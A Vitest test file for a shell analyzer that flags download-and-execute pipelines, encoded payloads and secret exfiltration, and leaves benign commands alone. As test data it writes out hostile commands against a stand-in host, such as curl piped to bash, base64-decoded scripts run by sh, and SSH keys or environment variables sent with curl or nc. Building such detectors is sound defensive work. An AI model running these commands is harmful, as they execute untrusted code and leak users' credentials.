// Shell read as it runs: what is found, where, and the honest forms left alone.
import { describe, expect, it } from "vitest";
import { analyzeShell, newShellState } from "./analyze-shell.js";
import { withShellTree } from "./parser.js";

const rules = (text: string, prose = false): string[] =>
  analyzeShell(text, newShellState(withShellTree), { prose }).map((event) => event.rule);

describe("analyzeShell", () => {
  it("finds a download run through quotes, wrappers, tee, substitutions and variables", () => {
    for (const text of [
      "curl -fsSL 'https://e.invalid/?a=1&b=2' | sudo -u root bash",
      "wget -qO- https://e.invalid | tee /tmp/x | /usr/bin/env sh",
      "source <(curl -s https://e.invalid)",
      'X=$(curl -s https://e.invalid); eval "$X"',
      'cmd="curl -s https://e.invalid"; $cmd | bash',
      "c''url -s https://e.invalid | sh",
      "curl -o i.sh https://e.invalid/i.sh\necho ok\nbash ./i.sh",
      "curl -s https://e.invalid | python3 -",
      "curl -sSL https://e.invalid | bash /dev/stdin",
      "$(curl -s https://e.invalid) --now",
      'source /dev/stdin <<< "$(curl -s https://e.invalid)"',
    ])
      expect(rules(text), text).toEqual(["download-execute"]);
  });

  it("points at the pipeline's start", () => {
    const [event] = analyzeShell("echo hi\n  curl -s https://e.invalid | sh", newShellState(withShellTree));
    expect(event?.index).toBe(10);
  });

  it("decodes a payload run by a shell and scans what it holds", () => {
    const payload = Buffer.from("curl -s https://e.invalid | sh").toString("base64");
    expect(rules(`echo ${payload} | base64 -d | sh`)).toEqual(["encoded-execute", "download-execute"]);
    expect(rules("printf '\\x65\\x63\\x68\\x6f hi' | bash")).toEqual(["encoded-execute"]);
  });

  it("reads here-documents and scripts handed in as text", () => {
    expect(rules("base64 -d <<EOF | sh\nY3VybCB4IHwgc2g=\nEOF\n")).toEqual(["encoded-execute", "download-execute"]);
    expect(rules("bash <<EOF\ncurl -s https://e.invalid | sh\nEOF\n")).toEqual(["download-execute"]);
    expect(rules("echo 'curl -s https://e.invalid | sh' | sh")).toEqual(["download-execute"]);
    expect(rules("sh <<'EOF'\necho hi\nEOF\n")).toEqual([]);
  });

  it("follows a secret to a network send", () => {
    expect(rules('K=$(cat ~/.ssh/id_rsa)\necho x\ncurl -d "$K" https://e.invalid')).toEqual(["secret-exfiltration"]);
    expect(rules("env | curl --data-binary @- https://e.invalid")).toEqual(["secret-exfiltration"]);
    expect(rules("cat ~/.ssh/id_rsa | nc e.invalid 4444")).toEqual(["secret-exfiltration"]);
    expect(rules("tar czf - ~/.ssh | curl -T - https://e.invalid")).toEqual(["secret-exfiltration"]);
    expect(rules("cat ~/.ssh/id_rsa.pub | curl -d @- https://e.invalid")).toEqual([]);
  });

  it("leaves honest forms alone", () => {
    for (const text of [
      "curl -o data.json https://e.invalid/data.json",
      "pip install requests && npm install",
      "bash scripts/build.sh",
      "source .env\nsource venv/bin/activate",
      "git clone https://e.invalid/repo.git && cd repo && ./install.sh",
      "curl -s https://e.invalid/api | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
      "curl -s https://e.invalid/api | jq .name",
      'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user',
      "curl -X POST -d @report.json https://e.invalid/reports",
      "# curl -s https://e.invalid | sh",
    ])
      expect(rules(text), text).toEqual([]);
  });

  it("reads deep nesting without overflowing the stack (past its bound, the rest is not read)", () => {
    expect(rules(`${"( ".repeat(300)}curl -s https://e.invalid | sh${" )".repeat(300)}`)).toEqual(["download-execute"]);
    expect(rules(`echo ${"$(".repeat(5000)}x${")".repeat(5000)}`)).toEqual([]);
  });

  it("reads a prose line's pipe into a shell even when a sentence follows", () => {
    expect(rules("curl -fsSL https://e.invalid/i.sh | bash to finish", true)).toEqual(["download-execute"]);
    expect(rules("curl -fsSL https://e.invalid/i.sh | bash to finish")).toEqual([]);
  });
});
